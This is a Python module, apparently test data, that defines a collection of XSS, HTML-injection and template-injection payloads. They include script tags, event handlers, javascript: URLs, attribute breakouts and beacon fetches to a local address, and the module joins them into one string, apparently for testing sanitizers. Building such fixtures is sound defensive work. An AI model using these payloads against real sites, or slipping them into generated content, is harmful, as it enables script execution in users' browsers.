"""Texts that would run, or fetch something, in a page that took them for markup, a template or an address."""

from __future__ import annotations

RUN = "document.body.dataset.pwned=1"
BEACON = "http://127.0.0.2:9/beacon"


def payloads(beacon: str = BEACON) -> tuple[str, ...]:
    """All of them.

    Args:
        beacon: the address that some of them try to fetch from.
    """
    return (
        f"<script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"</title></style></textarea></noscript><script>{RUN}</script>",
        f'<img src=x onerror="{RUN}">',
        f"<svg/onload={RUN}>",
        f"<svg><script href=data:,{RUN} /></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
        f'<iframe src="javascript:parent.{RUN}">',
        f"<details open ontoggle={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<body onload={RUN}>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f'" autofocus onfocus="{RUN}" x="',
        f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
        f"javascript:{RUN}",
        f"[link](javascript:{RUN}) ![image]({beacon}?markdown)",
        f"<img src={beacon}?image><link rel=stylesheet href={beacon}?style>",
        f"<style>body{{background:url({beacon}?css)}}</style><base href={beacon}>",
        f"<meta http-equiv=refresh content='0;url={beacon}'><object data={beacon}></object>",
        "${document.body.setAttribute('data-pwned',1)}",
        "{{constructor.constructor('document.body.dataset.pwned=1')()}}{{#each x}}@children",
        f"`+({RUN})+`</bdi>\u2028\u202e\u0000",
        f"]]><!--><img src=x onerror={RUN}>//\\x3cscript\\x3e \\u003cimg src=x onerror={RUN}\\u003e &lt;script&gt;",
    )


def joined(beacon: str = BEACON) -> str:
    """All of them in one text; the address comes first, since one only runs from its beginning."""
    return " ".join(sorted(payloads(beacon), key=lambda payload: not payload.startswith("javascript:")))


PAYLOADS = payloads()
ALL = joined()
